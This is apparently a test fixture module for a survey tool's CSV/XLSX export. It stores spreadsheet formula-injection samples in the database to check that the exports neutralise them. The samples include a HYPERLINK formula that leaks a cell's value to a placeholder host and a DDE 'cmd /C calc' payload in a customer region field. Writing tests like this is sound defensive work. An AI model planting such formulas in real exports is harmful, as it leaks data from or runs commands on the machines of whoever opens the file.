"""Stored text that spreadsheets would run as formulas or that XLSX cannot hold.

The rows are written straight into the database, the way older versions or other tools
may have left them, so that the exports are tested against what can be stored.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile

from sqlalchemy import Engine, select

from cxgap.store.database import transaction
from cxgap.store.models import Answer, Customer, Response, Survey

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&B2,"Click")'
COMMENTS = {
    "r1": HYPERLINK,
    "r2": "+1 call me back",
    "r3": "-2 stars, sorry",
    "r4": "@SUM(A1:A9)",
    "r5": "\t=1+2",
    "r6": "broken\x00answer",
}
"""Respondent key -> the comment stored for it."""
REGIONS = {"r1": "=cmd|' /C calc'!A0", "r2": "+North", "r3": "-South", "r4": "@East"}
"""Respondent key -> the region of its customer."""
NPS = {"r1": 9, "r2": 0, "r3": 10, "r4": 7, "r5": 3, "r6": 5}


def stored_comment(engine: Engine, key: str) -> str:
    """The comment of :data:`COMMENTS` as this database holds it: PostgreSQL's text cannot
    hold NUL, so there it is the replacement character the exports write for it anyway."""
    comment = COMMENTS[key]
    return comment if engine.dialect.name == "sqlite" else comment.replace("\x00", "\ufffd")


def store_hostile_responses(engine: Engine, survey: str) -> None:
    """One response per entry of :data:`COMMENTS`, with customers from :data:`REGIONS`."""
    when = dt.datetime(2026, 3, 1, tzinfo=dt.UTC)
    with transaction(engine) as session:
        survey_id = session.scalar(select(Survey.id).where(Survey.key == survey))
        assert survey_id is not None
        for key in COMMENTS:
            customer = None
            if key in REGIONS:
                customer = Customer(external_id=f"c-{key}", region=REGIONS[key], gender="-")
                session.add(customer)
                session.flush()
            response = Response(
                survey_id=survey_id,
                customer_id=customer.id if customer else None,
                respondent_key=key,
                fingerprint=key,
                source="web",
                submitted_at=when,
            )
            session.add(response)
            session.flush()
            session.add(
                Answer(response_id=response.id, item_id="comment", text=stored_comment(engine, key))
            )
            session.add(Answer(response_id=response.id, item_id="nps", score=NPS[key]))


def sheet_xml(content: bytes) -> str:
    """The XML of the first worksheet of an XLSX file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
